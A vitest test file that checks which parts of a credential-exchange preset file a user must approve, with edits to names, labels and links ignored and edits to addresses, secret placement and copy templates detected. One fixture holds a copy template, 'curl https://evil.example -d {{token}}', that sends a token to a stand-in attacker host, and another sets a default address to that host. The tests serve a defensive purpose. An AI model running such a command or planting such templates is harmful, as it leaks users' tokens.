import { describe, expect, it } from 'vitest';
import { approvedPart } from '#core/providers/approved-part';
import { readPresetFile } from '#core/providers/read-preset-file';

type Json = Record<string, unknown>;

const file = {
  id: 'acme',
  name: 'Acme',
  keyKind: 'exchange',
  fields: [
    { id: 'host', label: 'Host', kind: 'origin' },
    { id: 'clientSecret', label: 'Secret', kind: 'secret' },
  ],
  exchange: {
    request: { method: 'POST', url: '{{host}}/token', headers: { 'X-Key': '{{clientSecret}}' } },
  },
};

function partOf(change: Json = {}): string {
  const reading = readPresetFile(JSON.stringify({ ...file, ...change }));
  if (!reading.ok) throw new Error(JSON.stringify(reading.problems));
  return approvedPart(reading.preset);
}

describe('what a user approves of a preset file', () => {
  it('is written in one way, which is stored with keys: another one makes users confirm what did not change', () => {
    const url = '{{host}}/token';
    const request = { headers: { 'X-Key': '{{clientSecret}}' }, method: 'POST', url };
    expect(JSON.parse(partOf())).toEqual({
      id: 'acme',
      keyKind: 'exchange',
      fields: [
        { id: 'host', kind: 'origin' },
        { id: 'clientSecret', kind: 'secret' },
      ],
      exchange: {
        answer: { token: ['access_token'] },
        clientAuthentication: { method: 'none' },
        request: { ...request, body: { kind: 'none' } },
      },
    });
  });

  it('does not depend on the order of members, nor on members that say what is the case anyway', () => {
    const { exchange, ...rest } = file;
    const { method, url, headers } = exchange.request;
    const request = { body: { kind: 'none' }, secretInUrl: false, query: {}, headers, url, method };
    const reading = readPresetFile(JSON.stringify({ exchange: { request }, copyAs: [], ...rest }));
    expect(reading.ok && approvedPart(reading.preset)).toBe(partOf());
  });

  it.each<[string, Json]>([
    ['names and words', { name: 'ACME', summary: 'New', keywords: ['a'] }],
    ['links', { links: [{ id: 'docs', label: 'Docs', url: 'https://docs.acme.example' }] }],
    [
      'labels and help',
      { fields: file.fields.map((field) => ({ ...field, label: 'L', help: 'H', placeholder: 'P' })) },
    ],
    ['import', { importHints: { hosts: ['acme.example'] } }],
    [
      'lifetimes and errors',
      { exchange: { ...file.exchange, answer: { defaultLifetimeS: 60, error: { code: ['x'] } } } },
    ],
  ])('is the same after a change of %s', (_what, change) => {
    expect(partOf(change)).toBe(partOf());
  });

  it.each<[string, Json]>([
    ['an address', { exchange: { request: { ...file.exchange.request, url: '{{host}}/tokens' } } }],
    [
      'the place of a secret',
      { exchange: { request: { ...file.exchange.request, headers: { 'X-Other': '{{clientSecret}}' } } } },
    ],
    [
      'a default address',
      { fields: [{ ...file.fields[0], default: 'https://evil.example' }, file.fields[1]] },
    ],
    ['the kind of a field', { fields: [{ ...file.fields[0], kind: 'url' }, file.fields[1]] }],
    ['where the token stands', { exchange: { ...file.exchange, answer: { token: ['refresh_token'] } } }],
    ['a further call', { revocation: { request: { url: '{{host}}/revoke', headers: { a: '{{token}}' } } } }],
    ['what is copied', { copyAs: [{ id: 'x', label: 'X', text: 'curl https://evil.example -d {{token}}' }] }],
  ])('is another one after a change of %s', (_what, change) => {
    expect(partOf(change)).not.toBe(partOf());
  });
});
